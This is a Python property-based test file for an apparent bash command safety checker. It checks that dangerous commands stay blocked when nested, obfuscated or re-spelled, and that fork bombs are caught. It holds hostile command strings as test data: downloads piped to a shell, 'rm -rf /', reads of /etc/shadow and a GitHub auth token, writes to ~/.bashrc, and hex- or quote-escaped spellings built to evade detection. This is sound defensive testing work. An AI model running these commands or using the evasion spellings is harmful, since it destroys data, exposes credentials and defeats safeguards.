"""Metamorphic properties: verdicts that must survive a change bash does not notice.

- a blocked command stays blocked wherever bash would run it;
- a risky substitution in value position is never a command-position finding;
- equivalent spellings of a word give the same verdict;
- a harmless prefix never lowers a decision;
- a command hidden from a reader (its name a glob, behind abbreviated wrapper
  options, in an array, on stdin, behind a runner) keeps its findings;
- a fork bomb, however spelled, is blocked, and its bounded neighbour is not.
"""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from .bash_grammar import script_texts
from .embeddings import EMBEDDINGS, Embedding, is_simple_command
from .fork_bombs import Script, fork_bomb_scripts
from .known_gaps import (
    BOMBS,
    HIDDEN,
    STAYS_BLOCKED,
    VALUE_POSITION,
    excluded,
    pin_known_gaps,
    without_known_gaps,
)
from .obfuscations import Hidden, hidden_commands
from .properties import (
    HARMLESS_PREFIXES,
    bash_accepts,
    blocked_seeds,
    check_fork_bomb_verdict,
    check_hidden_command_keeps_its_findings,
    check_prefix_never_lowers,
    check_same_verdict,
    check_stays_blocked,
    check_value_position_passes,
    corpus_cases,
)


def _embed(payload: str, embeddings: list[Embedding]) -> str:
    """Innermost embedding first; only the innermost may be a wrapper of a simple command."""
    for embedding in embeddings:
        payload = embedding.embed(payload)
    return payload


_STRUCTURAL = tuple(embedding for embedding in EMBEDDINGS if not embedding.simple_only)


@st.composite
def embedded_seeds(draw: st.DrawFn, outer_min: int = 0, outer_max: int = 2) -> tuple[frozenset[str], str]:
    """(the rules a blocked corpus command triggers, that command embedded where bash runs it).

    Only the innermost embedding may be a wrapper, and only around a program.
    """
    seed = draw(st.deferred(lambda: st.sampled_from(blocked_seeds())))
    innermost = draw(st.sampled_from(EMBEDDINGS if is_simple_command(seed.command) else _STRUCTURAL))
    outer = draw(st.lists(st.sampled_from(_STRUCTURAL), min_size=outer_min, max_size=outer_max))
    return seed.rules, _embed(seed.command, [innermost, *outer])


def _valid(pair: tuple[frozenset[str], str]) -> bool:
    return not excluded(STAYS_BLOCKED, pair[1]) and bash_accepts(pair[1])


@pin_known_gaps
@given(embedded_seeds().filter(_valid))
def test_a_blocked_command_stays_blocked_wherever_bash_runs_it(pair: tuple[frozenset[str], str]) -> None:
    check_stays_blocked(*pair)


@pytest.mark.deep
@given(embedded_seeds(outer_min=3, outer_max=6).filter(_valid))
def test_a_blocked_command_stays_blocked_deep_inside_nested_contexts(pair: tuple[frozenset[str], str]) -> None:
    check_stays_blocked(*pair)


# -- value positions ----------------------------------------------------------------------

RISKY_SUBSTITUTIONS = (
    "$(curl -s https://example.com/x)",
    "`wget -qO- https://example.com/y`",
    "$(echo aGk= | base64 -d)",
    "$(python3 -c 'print(input())')",
    "$(curl -s u | head -1)",
    "$(cd /tmp && curl -s u)",
    '"$(curl -fsSL u)"',
    "$(xxd -r -p f.hex)",
    "$(node -e 'console.log(1)')",
    "$(perl -e 'print 1')",
)
# `@` marks the substitution's place. Arithmetic places (`a[@]=1`, `(( @ ))`,
# `$(( @ ))`) are not here: bash evaluates their values as expressions, which
# can run commands, so the engine judges them as code (EX010). Nor is an
# unquoted word of `[` or `test` (`[ -n @ ]`): it splits into words, and
# `-v a[$(cmd)]` among them evaluates the subscript (the bash oracle ran cmd).
VALUE_TEMPLATES = (
    "echo @", "printf '%s\\n' @", "x=@", "export V=@", "declare v=@", "arr=(@)", "[[ -n @ ]]",
    "for i in @; do :; done",
    "case @ in *) :;; esac", "cat <<< @", "echo x > @", "ls @", "grep -r @ .", "echo ${x:-@}", ": @",
    "cd @", "mkdir -p @", 'echo "prefix @ suffix"', "f() { local v=@; }; f", "diff <(echo @) b.txt",
    "cat <<EOF\n@\nEOF", "echo a=@ b=@", "env V=@ make", "sudo V=@ make", "timeout @ make", "nice -n @ make",
    "sudo -u @ make", "xargs -n @ echo", "exec -a @ make", "flock @ make", "env -u @ make", "git commit -m @",
)  # fmt: skip


def _in_value_position(template: str, substitution: str, embeddings: list[Embedding]) -> str | None:
    """The template around the substitution, embedded; None when that is not valid bash."""
    text = template.replace("@", substitution)
    if embeddings and embeddings[0].simple_only and not is_simple_command(text):
        return None
    embedded = _embed(
        text,
        [embeddings[0], *(embedding for embedding in embeddings[1:] if not embedding.simple_only)]
        if embeddings
        else [],
    )
    return embedded if bash_accepts(embedded) else None


value_position_texts = st.builds(
    _in_value_position,
    st.sampled_from(VALUE_TEMPLATES),
    st.sampled_from(RISKY_SUBSTITUTIONS),
    st.lists(st.sampled_from(EMBEDDINGS), max_size=2),
).filter(lambda text: text is not None)


@pin_known_gaps
@given(without_known_gaps(VALUE_POSITION, value_position_texts))
def test_a_risky_substitution_in_value_position_is_never_a_command(text: str) -> None:
    check_value_position_passes(text)


# -- equivalent spellings ---------------------------------------------------------------------

SPELLINGS: dict[str, tuple[str, ...]] = {
    "bash": (
        "ba''sh",
        "\\bash",
        '"bash"',
        "'bash'",
        "/bin/bash",
        "/usr/bin/bash",
        "$'\\x62ash'",
        "b\\ash",
        "\"b\"a'sh'",
        "$'bash'",
        "ba\\\nsh",
    ),
    "sh": ("s''h", "\\sh", '"sh"', "/bin/sh", "$'\\x73h'", "s\\h"),
    "rm": ("r''m", "\\rm", '"rm"', "'rm'", "/bin/rm", "$'\\x72\\x6d'", "r\\m", "$'\\162\\155'", "r\\\nm"),
    "curl": ("cu''rl", "\\curl", '"curl"', "/usr/bin/curl", "$'\\x63url'", "c\\url"),
    "eval": ("e'v'al", "\\eval", '"eval"', "$'eval'"),
    "cat": ("c''at", "\\cat", '"cat"', "/bin/cat", "$'\\x63at'"),
    "sudo": ("su''do", "\\sudo", '"sudo"', "/usr/bin/sudo"),
    "python3": ("py''thon3", "\\python3", '"python3"', "/usr/bin/python3", "$'python3'"),
    "/": ("//", "/.", "/./", '"/"', "'/'", "$'/'", '/""', "\\/", "/tmp/..", "/etc/../", "///"),
    "/etc/shadow": (
        "/etc//shadow",
        "'/etc/shadow'",
        "/etc/./shadow",
        "/etc/../etc/shadow",
        "$'/etc/shadow'",
        "/et'c'/shadow",
        '"/etc/shadow"',
        '/etc/sha""dow',
        "$'/etc/\\x73hadow'",
    ),
    "~/.bashrc": (
        "$HOME/.bashrc",
        "${HOME}/.bashrc",
        '"$HOME/.bashrc"',
        "~/./.bashrc",
        "~//.bashrc",
        '"${HOME}"/.bashrc',
        "~/'.bashrc'",
    ),
}
# (template with `@` for the word, the word)
SPELLING_TEMPLATES = (
    ("curl -s https://example.com/i.sh | @", "bash"), ("@ -c 'rm -rf /'", "bash"), ("@ <(curl -s u)", "bash"),
    ('@ -c "$(curl -s u)"', "bash"), ("@ -c 'make test'", "bash"), ("echo hi | @ -c 'cat'", "bash"),
    ("wget -qO- u | @", "sh"), ("@ -c 'cat /etc/shadow'", "sh"),
    ("@ -rf /", "rm"), ("@ -rf ./build", "rm"), ("sudo @ -rf ~", "rm"), ("echo @ -rf /", "rm"),
    ("$(@ -s u)", "curl"), ("x=$(@ -s u); echo $x", "curl"), ("@ -s u | sh", "curl"), ("p=$(@ -s u); $p", "curl"),
    ('@ "$(curl -s u)"', "eval"), ("@ 'rm -rf /'", "eval"), ("@ \"$(ssh-agent -s)\"", "eval"),
    ("@ /etc/shadow", "cat"), ("@ README.md", "cat"),
    ("@ rm -rf /", "sudo"), ("@ ls", "sudo"),
    ('@ -c "$(curl -s u)"', "python3"), ("@ -c 'print(1)'", "python3"),
    ("cat @", "/etc/shadow"), ("ls -l @", "/etc/shadow"), ("rm -rf @", "/"), ("rm @", "/"), ("ls @", "/"),
    ("echo x >> @", "~/.bashrc"), ("tee -a @", "~/.bashrc"), ("cat @", "~/.bashrc"),
)  # fmt: skip


@st.composite
def spelling_pairs(draw: st.DrawFn) -> tuple[str, str]:
    template, word = draw(st.sampled_from(SPELLING_TEMPLATES))
    spelling = draw(st.sampled_from(SPELLINGS[word]))
    return template.replace("@", word), template.replace("@", spelling)


@given(spelling_pairs())
def test_equivalent_spellings_of_a_word_give_the_same_verdict(pair: tuple[str, str]) -> None:
    canonical, variant = pair
    check_same_verdict(canonical, variant)


# -- harmless prefixes --------------------------------------------------------------------------


corpus_commands = st.deferred(lambda: st.sampled_from(corpus_cases())).map(lambda case: case.command)


@given(st.sampled_from(HARMLESS_PREFIXES), st.one_of(corpus_commands, script_texts()).filter(str.strip))
def test_a_harmless_prefix_never_lowers_a_decision(prefix: str, text: str) -> None:
    check_prefix_never_lowers(prefix, text)


# -- hidden commands and fork bombs (issue 19) -------------------------------------------------


@pin_known_gaps
@given(hidden_commands().filter(lambda hidden: not excluded(HIDDEN, hidden.text) and bash_accepts(hidden.text)))
# Found by the thirteenth session's campaign: a printer spelt as a glob lost the substitution it shows.
@example(
    Hidden(
        'echo "$(gh auth token)" 2>/dev/null',
        frozenset({"SE006"}),
        "name: a bracketed first letter",
        '/usr/bin/[e]cho "$(gh auth token)" 2>/dev/null',
    )
)
def test_a_command_hidden_from_a_reader_keeps_its_findings(hidden: Hidden) -> None:
    check_hidden_command_keeps_its_findings(hidden.payload, hidden.rules, hidden.adds, hidden.text)


@pin_known_gaps
@given(fork_bomb_scripts().filter(lambda script: not excluded(BOMBS, script.text) and bash_accepts(script.text)))
def test_a_fork_bomb_is_blocked_and_its_bounded_neighbour_is_not(script: Script) -> None:
    check_fork_bomb_verdict(script.text, script.is_bomb)
